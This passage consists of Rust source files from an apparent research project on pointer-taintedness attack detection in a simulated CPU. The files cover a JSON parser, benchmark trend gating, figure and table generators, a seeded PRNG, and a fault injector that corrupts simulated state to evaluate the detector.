            .unwrap()
        };
        let gate = check_trend(&with_proven(1509), &with_proven(1509), 0.5);
        assert!(gate.ok(), "{:?}", gate.violations);
        // A precision drop is a hard failure even though no bench moved.
        let gate = check_trend(&with_proven(1509), &with_proven(1074), 0.5);
        assert_eq!(gate.violations.len(), 1);
        assert!(gate.violations[0].contains("analysis exp1.proven"));
        // A guest vanishing from the collection is a coverage failure.
        let empty = Value::parse("{\"analysis\":{}}").unwrap();
        let gate = check_trend(&with_proven(1509), &empty, 0.5);
        assert!(gate
            .violations
            .iter()
            .any(|v| v.contains("analysis exp1: missing")));
    }

    #[test]
    fn analysis_collection_is_deterministic_and_holds_the_floor() {
        let a = collect_analysis();
        let b = collect_analysis();
        assert_eq!(a.render(), b.render());
        // The ISSUE-8 precision floor, visible straight from the trend row.
        let exp1 = a.get("exp1").unwrap();
        let proven = exp1.get("proven").unwrap().as_f64().unwrap();
        assert!(
            proven >= 1300.0,
            "exp1 proven {proven} fell below the summary-analysis target"
        );
        for name in ["exp1", "ghttpd", "null_httpd", "wu_ftpd"] {
            let row = a.get(name).unwrap();
            for field in ["sites", "proven", "flagged", "unresolved"] {
                assert!(row.get(field).is_some(), "{name} missing {field}");
            }
        }
    }

    #[test]
    fn campaign_collection_is_deterministic_and_detects() {
        let a = collect_campaigns();
        let b = collect_campaigns();
        assert_eq!(a.render(), b.render());
        for name in ["exp1", "ghttpd"] {
            let row = a.get(name).unwrap();
            assert_eq!(row.get("baseline_detected").unwrap().as_bool(), Some(true));
            let counts = row.get("counts").unwrap();
            let total: f64 = counts
                .fields()
                .iter()
                .map(|(_, v)| v.as_f64().unwrap())
                .sum();
            assert_eq!(total, TREND_TRIALS as f64, "{name} counts cover all trials");
        }
    }
}
