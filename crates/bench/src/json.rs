//! A minimal JSON value model: enough to parse the `BENCH_*.json`
//! summaries and `TREND.json` baselines this crate produces, and to
//! re-render them deterministically (object keys keep insertion order, so
//! parse → render round-trips byte-for-byte for the documents we emit).

use std::fmt::Write as _;

/// A parsed JSON value. Objects preserve key order.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// `null`
    Null,
    /// `true` / `false`
    Bool(bool),
    /// Any JSON number (held as `f64`; our documents stay well inside the
    /// exactly-representable integer range).
    Num(f64),
    /// A string.
    Str(String),
    /// An array.
    Arr(Vec<Value>),
    /// An object, in insertion order.
    Obj(Vec<(String, Value)>),
}

impl Value {
    /// Parse a complete JSON document (trailing whitespace allowed).
    pub fn parse(text: &str) -> Result<Value, String> {
        let mut p = Parser {
            bytes: text.as_bytes(),
            pos: 0,
        };
        p.skip_ws();
        let v = p.value()?;
        p.skip_ws();
        if p.pos != p.bytes.len() {
            return Err(format!("trailing bytes at offset {}", p.pos));
        }
        Ok(v)
    }

    /// Object field lookup (`None` for non-objects or missing keys).
    #[must_use]
    pub fn get(&self, key: &str) -> Option<&Value> {
        match self {
            Value::Obj(fields) => fields.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// The object's fields, or an empty slice for non-objects.
    #[must_use]
    pub fn fields(&self) -> &[(String, Value)] {
        match self {
            Value::Obj(fields) => fields,
            _ => &[],
        }
    }

    /// Numeric value, if this is a number.
    #[must_use]
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::Num(n) => Some(*n),
            _ => None,
        }
    }

    /// Boolean value, if this is a boolean.
    #[must_use]
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Value::Bool(b) => Some(*b),
            _ => None,
        }
    }

    /// String value, if this is a string.
    #[must_use]
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    /// Render back to compact JSON, keys in stored order.
    #[must_use]
    pub fn render(&self) -> String {
        let mut out = String::new();
        self.render_into(&mut out);
        out
    }

    fn render_into(&self, out: &mut String) {
        match self {
            Value::Null => out.push_str("null"),
            Value::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
            // `{}` on f64 prints the shortest round-trip form: integers
            // render without a trailing `.0`.
            Value::Num(n) => {
                let _ = write!(out, "{n}");
            }
            Value::Str(s) => {
                out.push('"');
                escape_into(s, out);
                out.push('"');
            }
            Value::Arr(items) => {
                out.push('[');
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    item.render_into(out);
                }
                out.push(']');
            }
            Value::Obj(fields) => {
                out.push('{');
                for (i, (k, v)) in fields.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    out.push('"');
                    escape_into(k, out);
                    out.push_str("\":");
                    v.render_into(out);
                }
                out.push('}');
            }
        }
    }
}

fn escape_into(s: &str, out: &mut String) {
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl Parser<'_> {
    fn skip_ws(&mut self) {
        while let Some(b' ' | b'\t' | b'\n' | b'\r') = self.bytes.get(self.pos) {
            self.pos += 1;
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, b: u8) -> Result<(), String> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(format!("expected `{}` at offset {}", b as char, self.pos))
        }
    }

    fn literal(&mut self, text: &str, value: Value) -> Result<Value, String> {
        if self.bytes[self.pos..].starts_with(text.as_bytes()) {
            self.pos += text.len();
            Ok(value)
        } else {
            Err(format!("bad literal at offset {}", self.pos))
        }
    }

    fn value(&mut self) -> Result<Value, String> {
        match self.peek() {
            Some(b'n') => self.literal("null", Value::Null),
            Some(b't') => self.literal("true", Value::Bool(true)),
            Some(b'f') => self.literal("false", Value::Bool(false)),
            Some(b'"') => Ok(Value::Str(self.string()?)),
            Some(b'[') => self.array(),
            Some(b'{') => self.object(),
            Some(b'-' | b'0'..=b'9') => self.number(),
            other => Err(format!("unexpected {other:?} at offset {}", self.pos)),
        }
    }

    fn number(&mut self) -> Result<Value, String> {
        let start = self.pos;
        while matches!(
            self.peek(),
            Some(b'-' | b'+' | b'.' | b'e' | b'E' | b'0'..=b'9')
        ) {
            self.pos += 1;
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).unwrap_or("");
        text.parse::<f64>()
            .map(Value::Num)
            .map_err(|e| format!("bad number `{text}` at offset {start}: {e}"))
    }

    fn string(&mut self) -> Result<String, String> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek() {
                None => return Err("unterminated string".into()),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    let esc = self.peek().ok_or("unterminated escape")?;
                    self.pos += 1;
                    match esc {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
                        b'/' => out.push('/'),
                        b'b' => out.push('\u{8}'),
                        b'f' => out.push('\u{c}'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'u' => {
                            let hex = self
                                .bytes
                                .get(self.pos..self.pos + 4)
                                .and_then(|b| std::str::from_utf8(b).ok())
                                .ok_or("truncated \\u escape")?;
                            let code = u32::from_str_radix(hex, 16)
                                .map_err(|e| format!("bad \\u escape: {e}"))?;
                            self.pos += 4;
                            out.push(char::from_u32(code).unwrap_or('\u{fffd}'));
                        }
                        other => {
                            return Err(format!("bad escape `\\{}`", other as char));
                        }
                    }
                }
                Some(_) => {
                    // Consume one UTF-8 scalar (input is a &str, so byte
                    // boundaries are valid; copy bytes until a char edge).
                    let start = self.pos;
                    self.pos += 1;
                    while self.pos < self.bytes.len() && (self.bytes[self.pos] & 0xc0) == 0x80 {
                        self.pos += 1;
                    }
                    out.push_str(
                        std::str::from_utf8(&self.bytes[start..self.pos])
                            .map_err(|e| e.to_string())?,
                    );
                }
            }
        }
    }

    fn array(&mut self) -> Result<Value, String> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Value::Arr(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Value::Arr(items));
                }
                _ => return Err(format!("expected `,` or `]` at offset {}", self.pos)),
            }
        }
    }

    fn object(&mut self) -> Result<Value, String> {
        self.expect(b'{')?;
        let mut fields = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Value::Obj(fields));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            fields.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Value::Obj(fields));
                }
                _ => return Err(format!("expected `,` or `}}` at offset {}", self.pos)),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trips_a_bench_summary() {
        let text = "{\"bench\":\"engine\",\"guest_steps\":1000006,\
                    \"interp_steps_per_sec\":23737717,\"speedup\":2.298,\
                    \"quick\":false}";
        let v = Value::parse(text).unwrap();
        assert_eq!(v.get("guest_steps").unwrap().as_f64(), Some(1_000_006.0));
        assert_eq!(v.get("speedup").unwrap().as_f64(), Some(2.298));
        assert_eq!(v.get("quick").unwrap().as_bool(), Some(false));
        assert_eq!(v.render(), text);
    }

    #[test]
    fn parses_nesting_escapes_and_whitespace() {
        let v = Value::parse(" { \"a\" : [ 1 , null , true , \"x\\n\\u0041\" ] } ").unwrap();
        let arr = match v.get("a").unwrap() {
            Value::Arr(items) => items,
            other => panic!("not an array: {other:?}"),
        };
        assert_eq!(arr.len(), 4);
        assert_eq!(arr[3].as_str(), Some("x\nA"));
        assert_eq!(v.render(), "{\"a\":[1,null,true,\"x\\nA\"]}");
    }

    #[test]
    fn rejects_garbage() {
        assert!(Value::parse("{\"a\":}").is_err());
        assert!(Value::parse("[1,]").is_err());
        assert!(Value::parse("{} x").is_err());
        assert!(Value::parse("\"unterminated").is_err());
    }
}
