//! Regenerates every *figure* of the paper.
//!
//! ```sh
//! cargo run -p ptaint-bench --bin figures            # all figures
//! cargo run -p ptaint-bench --bin figures -- fig2    # one figure
//! ```

use ptaint::cert;
use ptaint::experiments::{figure2_layout, figure3, synthetic};

fn main() {
    let which = std::env::args().nth(1).unwrap_or_else(|| "all".into());
    let run_all = which == "all";

    if run_all || which == "fig1" {
        println!("{}", cert::render_figure_1());
    }
    if run_all || which == "fig2" {
        println!("{}\n", synthetic::run_synthetic_suite());
        println!("{}\n", figure2_layout::capture_exp1_frame());
    }
    if run_all || which == "fig3" {
        println!("{}\n", figure3::run_pipeline_walk());
    }
}
