//! `trend` — consolidate `BENCH_*.json` summaries and fixed-seed campaign
//! outcome counts into `TREND.json`, and gate the current numbers against
//! the checked-in baseline. See the `ptaint_bench` crate docs for the
//! comparison rules (exact campaign counts, tolerance-banded throughput).
//!
//! ```text
//! trend print          write the fresh collection to stdout
//! trend write          refresh TREND.json at the repository root
//! trend check          compare a fresh collection against TREND.json;
//!                      exit 1 on any violation, 2 on usage/baseline errors
//! ```
//!
//! `TREND_TOLERANCE=0.4` overrides the default throughput tolerance band.

use std::path::Path;
use std::process::ExitCode;

use ptaint_bench::{check_trend, collect_trend, render_trend, Value, DEFAULT_TOLERANCE};

fn main() -> ExitCode {
    let root = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."));
    let baseline_path = root.join("TREND.json");
    let mode = std::env::args().nth(1).unwrap_or_else(|| "print".into());

    let mut notes = Vec::new();
    let current = collect_trend(root, &mut notes);
    for note in &notes {
        eprintln!("trend: note: {note}");
    }

    match mode.as_str() {
        "print" => {
            print!("{}", render_trend(&current));
            ExitCode::SUCCESS
        }
        "write" => {
            if let Err(e) = std::fs::write(&baseline_path, render_trend(&current)) {
                eprintln!("trend: cannot write {}: {e}", baseline_path.display());
                return ExitCode::from(2);
            }
            println!("trend: wrote {}", baseline_path.display());
            ExitCode::SUCCESS
        }
        "check" => {
            let text = match std::fs::read_to_string(&baseline_path) {
                Ok(t) => t,
                Err(e) => {
                    eprintln!(
                        "trend: cannot read baseline {}: {e} (run `trend write` first)",
                        baseline_path.display()
                    );
                    return ExitCode::from(2);
                }
            };
            let baseline = match Value::parse(&text) {
                Ok(v) => v,
                Err(e) => {
                    eprintln!(
                        "trend: baseline {} is not JSON: {e}",
                        baseline_path.display()
                    );
                    return ExitCode::from(2);
                }
            };
            let tolerance = std::env::var("TREND_TOLERANCE")
                .ok()
                .and_then(|t| t.parse::<f64>().ok())
                .filter(|t| (0.0..1.0).contains(t))
                .unwrap_or(DEFAULT_TOLERANCE);
            let gate = check_trend(&baseline, &current, tolerance);
            for skip in &gate.skipped {
                println!("trend: skipped: {skip}");
            }
            for violation in &gate.violations {
                println!("trend: FAIL: {violation}");
            }
            println!(
                "trend: {} values checked, {} skipped, {} violations (tolerance {tolerance})",
                gate.checked,
                gate.skipped.len(),
                gate.violations.len()
            );
            if gate.ok() {
                ExitCode::SUCCESS
            } else {
                ExitCode::FAILURE
            }
        }
        other => {
            eprintln!("trend: unknown mode `{other}` (expected print | write | check)");
            ExitCode::from(2)
        }
    }
}
