//! Regenerates every *table* of the paper's evaluation section.
//!
//! ```sh
//! cargo run -p ptaint-bench --bin tables             # all tables
//! cargo run -p ptaint-bench --bin tables -- table3   # one table
//! cargo run -p ptaint-bench --bin tables -- table3 8 # with a scale knob
//! ```

use ptaint::experiments::{
    ablation, annotations, caches, coverage, optimizer, overhead, table1, table2, table3, table4,
};

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let which = args.first().map(String::as_str).unwrap_or("all");
    let scale: u32 = args.get(1).and_then(|s| s.parse().ok()).unwrap_or(6);

    let run_all = which == "all";
    if run_all || which == "table1" {
        println!("{}\n", table1::verify_propagation_rules());
    }
    if run_all || which == "table2" {
        println!("{}\n", table2::run_wu_ftpd_transcript());
    }
    if run_all || which == "table3" {
        println!("{}\n", table3::run_false_positive_suite(scale));
    }
    if run_all || which == "table4" {
        println!("{}\n", table4::run_false_negative_suite());
    }
    if run_all || which == "coverage" {
        println!("{}\n", coverage::run_coverage_matrix());
    }
    if run_all || which == "overhead" {
        println!("{}\n", overhead::run_overhead_report(scale.min(4)));
    }
    if run_all || which == "ablation" {
        println!("{}\n", ablation::run_ablation_study(scale.min(3)));
    }
    if run_all || which == "annotations" {
        println!("{}\n", annotations::run_annotation_experiment());
    }
    if run_all || which == "opt" {
        println!("{}\n", optimizer::run_optimizer_study(scale.min(3)));
    }
    if run_all || which == "caches" {
        println!("{}\n", caches::run_cache_study(scale.min(4)));
    }
}
