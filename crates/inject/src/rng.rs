//! Seeded pseudo-randomness for campaign reproducibility.

/// SplitMix64 — a tiny, statistically solid PRNG whose entire state is one
/// `u64`. Chosen over anything fancier because campaign reproducibility
/// demands an algorithm simple enough to never change: the same seed must
/// produce the same fault schedule forever.
#[derive(Debug, Clone)]
pub struct SplitMix64 {
    state: u64,
}

impl SplitMix64 {
    /// A generator seeded with `seed`.
    #[must_use]
    pub fn new(seed: u64) -> SplitMix64 {
        SplitMix64 { state: seed }
    }

    /// The next 64 pseudo-random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A value uniform-ish in `0..n` (`n > 0`); modulo bias is irrelevant at
    /// campaign scales.
    pub fn below(&mut self, n: u64) -> u64 {
        debug_assert!(n > 0, "below(0) is meaningless");
        self.next_u64() % n
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_stream() {
        let mut a = SplitMix64::new(0xfeed);
        let mut b = SplitMix64::new(0xfeed);
        for _ in 0..64 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn known_vector_pins_the_algorithm() {
        // First outputs for seed 0 from the reference SplitMix64; a failure
        // here means old campaign reports are no longer reproducible.
        let mut r = SplitMix64::new(0);
        assert_eq!(r.next_u64(), 0xe220_a839_7b1d_cdaf);
        assert_eq!(r.next_u64(), 0x6e78_9e6a_a1b9_65f4);
    }

    #[test]
    fn below_stays_in_range() {
        let mut r = SplitMix64::new(7);
        for _ in 0..256 {
            assert!(r.below(13) < 13);
        }
    }
}
