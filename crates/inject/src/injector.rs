//! The state-level injector: a [`StepHook`] that corrupts architectural
//! state once, at a seeded trigger step.

use ptaint_cpu::Cpu;
use ptaint_isa::{Reg, PAGE_SIZE};
use ptaint_mem::WordTaint;
use ptaint_os::StepHook;
use ptaint_trace::Event;

use crate::fault::{Fault, FaultKind};
use crate::rng::SplitMix64;

/// Bytes of shadow taint cleared around the picked byte by a
/// [`FaultKind::TaintClear`] injection. Wide enough to swallow a whole
/// attack payload (the ghttpd overflow is ~240 bytes), so a hit near the
/// corrupted pointer reliably produces the missed-detection outcome the
/// paper's Table 4 rows are contrasted against.
const TAINT_CLEAR_WINDOW: u32 = 256;

/// A one-shot state corrupter. Attach to [`ptaint_os::run_to_exit_with`];
/// at the first step `>= fault.step` it applies the fault (if the targeted
/// state exists), bumps `ExecStats::injected_faults`, and emits a
/// `fault_injected` trace event when an observer is attached.
#[derive(Debug)]
pub struct StateInjector {
    fault: Fault,
    fired: bool,
    applied: Option<String>,
}

impl StateInjector {
    /// An injector armed with `fault`. I/O kinds are inert here — schedule
    /// them on the kernel via [`Fault::io_plan`] instead.
    #[must_use]
    pub fn new(fault: Fault) -> StateInjector {
        StateInjector {
            fault,
            fired: false,
            applied: None,
        }
    }

    /// Human-readable description of what was corrupted, once applied.
    /// `None` means the fault never fired or found no eligible target
    /// (e.g. `taint_clear` before any taint exists).
    #[must_use]
    pub fn applied(&self) -> Option<&str> {
        self.applied.as_deref()
    }
}

impl StepHook for StateInjector {
    fn on_step(&mut self, step: u64, cpu: &mut Cpu) {
        if self.fired || self.fault.kind.is_io() || step < self.fault.step {
            return;
        }
        self.fired = true;
        let mut rng = SplitMix64::new(self.fault.salt);
        if let Some(detail) = apply_state_fault(self.fault.kind, &mut rng, cpu) {
            cpu.note_injected_fault();
            if cpu.has_observer() {
                cpu.emit_event(&Event::FaultInjected {
                    kind: self.fault.kind.name(),
                    detail: detail.clone(),
                });
            }
            self.applied = Some(detail);
        }
    }
}

/// Picks the `idx`-th tainted byte (in address order) out of `ranges`.
fn nth_tainted_byte(ranges: &[(u32, u32)], idx: u64) -> u32 {
    let mut remaining = idx;
    for &(start, len) in ranges {
        if remaining < u64::from(len) {
            return start + remaining as u32;
        }
        remaining -= u64::from(len);
    }
    unreachable!("index computed modulo the total tainted byte count")
}

fn apply_state_fault(kind: FaultKind, rng: &mut SplitMix64, cpu: &mut Cpu) -> Option<String> {
    match kind {
        FaultKind::DataBit => {
            let ranges = cpu.mem().tainted_ranges();
            let total: u64 = ranges.iter().map(|&(_, len)| u64::from(len)).sum();
            if total == 0 {
                return None;
            }
            let addr = nth_tainted_byte(&ranges, rng.below(total));
            let bit = rng.below(8) as u8;
            // Read the authoritative byte (not through the caches, so the
            // injection doesn't perturb hit/miss statistics), then write
            // through the hierarchy so caches stay coherent.
            let (value, tainted) = cpu.mem().memory().read_u8(addr).ok()?;
            cpu.mem_mut()
                .write_u8(addr, value ^ (1 << bit), tainted)
                .ok()?;
            Some(format!("data bit {bit} flipped at {addr:#010x}"))
        }
        FaultKind::TaintClear => {
            let ranges = cpu.mem().tainted_ranges();
            let total: u64 = ranges.iter().map(|&(_, len)| u64::from(len)).sum();
            if total == 0 {
                return None;
            }
            let addr = nth_tainted_byte(&ranges, rng.below(total));
            // Centre the window on the hit, but keep it off the null-guard
            // page so the clearing writes stay legal.
            let start = addr.saturating_sub(TAINT_CLEAR_WINDOW / 2).max(PAGE_SIZE);
            cpu.mem_mut()
                .set_taint_range(start, TAINT_CLEAR_WINDOW, false)
                .ok()?;
            Some(format!(
                "taint cleared on [{start:#010x}, +{TAINT_CLEAR_WINDOW})"
            ))
        }
        FaultKind::TaintSet => {
            if rng.below(2) == 0 {
                // Spuriously taint a register's shadow bits, value intact.
                let reg = Reg::new(1 + rng.below(31) as u8);
                let (value, _) = cpu.regs().get(reg);
                cpu.regs_mut().set(reg, value, WordTaint::ALL);
                Some(format!("taint set on {reg}"))
            } else {
                // Spuriously taint a word in the live stack frame.
                let sp = cpu.regs().value(Reg::SP) & !3;
                let addr = sp.wrapping_add(4 * rng.below(16) as u32);
                cpu.mem_mut().set_taint_range(addr, 4, true).ok()?;
                Some(format!("taint set on stack word {addr:#010x}"))
            }
        }
        FaultKind::RegisterBit => {
            let reg = Reg::new(1 + rng.below(31) as u8);
            let (value, taint) = cpu.regs().get(reg);
            // 32 value bits + 4 shadow taint bits per register.
            let bit = rng.below(36);
            if bit < 32 {
                cpu.regs_mut().set(reg, value ^ (1 << bit), taint);
                Some(format!("value bit {bit} flipped in {reg}"))
            } else {
                let byte = (bit - 32) as usize;
                cpu.regs_mut().set(reg, value, taint.toggle_byte(byte));
                Some(format!("shadow taint bit {byte} toggled in {reg}"))
            }
        }
        FaultKind::CacheLine => {
            let level = 1 + (rng.below(2) as u8);
            let pick = rng.next_u64();
            let bit = rng.next_u64();
            let (addr, taint_bit) = cpu.mem_mut().corrupt_cache_line(level, pick, bit)?;
            let what = if taint_bit { "taint" } else { "data" };
            Some(format!(
                "L{level} cache line {what} bit flipped (byte {addr:#010x})"
            ))
        }
        FaultKind::MultiBit => {
            let ranges = cpu.mem().tainted_ranges();
            let total: u64 = ranges.iter().map(|&(_, len)| u64::from(len)).sum();
            if total == 0 {
                return None;
            }
            // Burst upset: 2–8 single-bit flips inside one 64-byte window
            // anchored on a tainted byte. Offsets may land on unmapped or
            // untouched bytes; only the flips that land are counted.
            let base = nth_tainted_byte(&ranges, rng.below(total));
            let burst = 2 + rng.below(7);
            let mut landed = 0u32;
            for _ in 0..burst {
                let addr = base.wrapping_add(rng.below(64) as u32);
                let bit = rng.below(8) as u8;
                let Ok((value, tainted)) = cpu.mem().memory().read_u8(addr) else {
                    continue;
                };
                if cpu
                    .mem_mut()
                    .write_u8(addr, value ^ (1 << bit), tainted)
                    .is_ok()
                {
                    landed += 1;
                }
            }
            if landed == 0 {
                return None;
            }
            Some(format!(
                "{landed} of {burst} burst bit flips landed in [{base:#010x}, +64)"
            ))
        }
        FaultKind::TaintSweep => {
            // Blind the detector wholesale: clear every shadow taint bit in
            // memory and the register file.
            let ranges = cpu.mem().tainted_ranges();
            let bytes: u64 = ranges.iter().map(|&(_, len)| u64::from(len)).sum();
            let mut regs = 0u32;
            for n in 1..32 {
                let reg = Reg::new(n);
                if cpu.regs().get(reg).1.any() {
                    cpu.regs_mut().set_taint(reg, WordTaint::CLEAN);
                    regs += 1;
                }
            }
            for (start, len) in ranges {
                cpu.mem_mut().set_taint_range(start, len, false).ok()?;
            }
            if bytes == 0 && regs == 0 {
                return None;
            }
            Some(format!(
                "taint sweep cleared {bytes} shadow bytes and {regs} registers"
            ))
        }
        FaultKind::DecodeSlot => {
            let pick = rng.next_u64();
            let bit = rng.next_u64();
            cpu.corrupt_decode_slot(pick, bit)
        }
        FaultKind::ProvenFlip => {
            let pick = rng.next_u64();
            let bit = rng.next_u64();
            cpu.corrupt_proven_bit(pick, bit)
        }
        // I/O kinds are scheduled on the kernel; ProofCache fires at boot,
        // on the machine layer, before this hook ever runs.
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_cpu::{Cpu, DetectionPolicy};
    use ptaint_mem::{HierarchyConfig, MemorySystem};

    fn cpu() -> Cpu {
        Cpu::new(MemorySystem::flat(), DetectionPolicy::PointerTaintedness)
    }

    fn hook(kind: FaultKind, step: u64, salt: u64) -> StateInjector {
        StateInjector::new(Fault {
            kind,
            io_call: 0,
            step,
            salt,
        })
    }

    #[test]
    fn taint_clear_wipes_the_window_and_counts() {
        let mut cpu = cpu();
        cpu.mem_mut().set_taint_range(0x5000, 16, true).unwrap();
        let mut inj = hook(FaultKind::TaintClear, 3, 1);
        inj.on_step(0, &mut cpu); // before trigger: inert
        assert!(inj.applied().is_none());
        inj.on_step(3, &mut cpu);
        let detail = inj.applied().expect("taint existed, must apply");
        assert!(detail.starts_with("taint cleared"), "{detail}");
        assert!(cpu.mem().tainted_ranges().is_empty());
        assert_eq!(cpu.stats().injected_faults, 1);
        // One-shot: a second trigger step must not re-fire.
        cpu.mem_mut().set_taint_range(0x5000, 4, true).unwrap();
        inj.on_step(4, &mut cpu);
        assert_eq!(cpu.stats().injected_faults, 1);
    }

    #[test]
    fn taint_clear_without_taint_is_a_clean_no_op() {
        let mut cpu = cpu();
        let mut inj = hook(FaultKind::TaintClear, 0, 1);
        inj.on_step(0, &mut cpu);
        assert!(inj.applied().is_none());
        assert_eq!(cpu.stats().injected_faults, 0);
    }

    #[test]
    fn data_bit_flips_value_but_preserves_taint() {
        let mut cpu = cpu();
        cpu.mem_mut().write_u8(0x5000, 0xAA, true).unwrap();
        let mut inj = hook(FaultKind::DataBit, 0, 99);
        inj.on_step(0, &mut cpu);
        assert!(inj.applied().unwrap().contains("data bit"));
        let (value, tainted) = cpu.mem().memory().read_u8(0x5000).unwrap();
        assert_ne!(value, 0xAA);
        assert_eq!((value ^ 0xAA).count_ones(), 1);
        assert!(tainted, "taint must survive a data flip");
    }

    #[test]
    fn register_bit_and_taint_set_touch_the_register_file() {
        // Sweep salts until both register-fault shapes have been observed.
        let mut seen_value_flip = false;
        let mut seen_shadow = false;
        for salt in 0..64 {
            let mut cpu = cpu();
            let mut inj = hook(FaultKind::RegisterBit, 0, salt);
            inj.on_step(0, &mut cpu);
            let detail = inj.applied().unwrap();
            seen_value_flip |= detail.contains("value bit");
            seen_shadow |= detail.contains("shadow taint");
        }
        assert!(seen_value_flip && seen_shadow);

        // TaintSet lands on either a register or a stack word; give the CPU
        // a plausible stack pointer so the memory branch has a legal target.
        let mut cpu = cpu();
        cpu.regs_mut().set(Reg::SP, 0x7fff_0000, WordTaint::CLEAN);
        let mut seen = 0;
        for salt in 0..8 {
            let mut inj = hook(FaultKind::TaintSet, 0, salt);
            inj.on_step(0, &mut cpu);
            seen += inj.applied().is_some() as u32;
        }
        assert_eq!(seen, 8);
    }

    #[test]
    fn cache_line_needs_a_cache_with_valid_lines() {
        // Flat hierarchy: no caches, fault finds no target.
        let mut cpu = cpu();
        let mut inj = hook(FaultKind::CacheLine, 0, 5);
        inj.on_step(0, &mut cpu);
        assert!(inj.applied().is_none());

        // Two-level hierarchy with a touched line: fault lands.
        let mut cpu = Cpu::new(
            MemorySystem::new(HierarchyConfig::two_level()),
            DetectionPolicy::PointerTaintedness,
        );
        cpu.mem_mut().write_u8(0x5000, 1, false).unwrap();
        cpu.mem_mut().read_u8(0x5000).unwrap(); // miss-fill a valid line
        for salt in 0..8 {
            let mut inj = hook(FaultKind::CacheLine, 0, salt);
            inj.on_step(0, &mut cpu);
            if let Some(detail) = inj.applied() {
                assert!(detail.contains("cache line"), "{detail}");
                return;
            }
        }
        panic!("no cache-line fault landed across 8 salts");
    }

    #[test]
    fn multi_bit_bursts_flip_several_bits_and_preserve_taint() {
        let mut cpu = cpu();
        cpu.mem_mut().set_taint_range(0x5000, 64, true).unwrap();
        for addr in 0x5000..0x5040u32 {
            cpu.mem_mut().write_u8(addr, 0xAA, true).unwrap();
        }
        let mut inj = hook(FaultKind::MultiBit, 0, 17);
        inj.on_step(0, &mut cpu);
        let detail = inj.applied().expect("tainted window exists");
        assert!(detail.contains("burst bit flips landed"), "{detail}");
        // Count corrupted bytes; taint stays on every one of them.
        let mut flipped = 0;
        for addr in 0x5000..0x5040u32 {
            let (value, tainted) = cpu.mem().memory().read_u8(addr).unwrap();
            assert!(tainted);
            if value != 0xAA {
                flipped += 1;
            }
        }
        assert!(flipped >= 1, "at least one landed flip is visible");
    }

    #[test]
    fn taint_sweep_blinds_memory_and_registers_wholesale() {
        let mut cpu = cpu();
        cpu.mem_mut().set_taint_range(0x5000, 16, true).unwrap();
        cpu.mem_mut().set_taint_range(0x9000, 300, true).unwrap();
        cpu.regs_mut().set(Reg::T0, 7, WordTaint::ALL);
        let mut inj = hook(FaultKind::TaintSweep, 0, 1);
        inj.on_step(0, &mut cpu);
        let detail = inj.applied().unwrap();
        assert_eq!(
            detail,
            "taint sweep cleared 316 shadow bytes and 1 registers"
        );
        assert!(cpu.mem().tainted_ranges().is_empty());
        assert!(!cpu.regs().get(Reg::T0).1.any());

        // Nothing tainted anywhere: the sweep has nothing to clear.
        let mut clean = Cpu::new(MemorySystem::flat(), DetectionPolicy::PointerTaintedness);
        let mut inj = hook(FaultKind::TaintSweep, 0, 1);
        inj.on_step(0, &mut clean);
        assert!(inj.applied().is_none());
    }

    #[test]
    fn decode_faults_need_a_populated_decode_cache() {
        // Fresh CPU, nothing decoded: both detector faults find no target.
        let mut cpu = cpu();
        let mut inj = hook(FaultKind::DecodeSlot, 0, 3);
        inj.on_step(0, &mut cpu);
        assert!(inj.applied().is_none());
        let mut inj = hook(FaultKind::ProvenFlip, 0, 3);
        inj.on_step(0, &mut cpu);
        assert!(inj.applied().is_none());
        assert_eq!(cpu.stats().injected_faults, 0);
    }

    #[test]
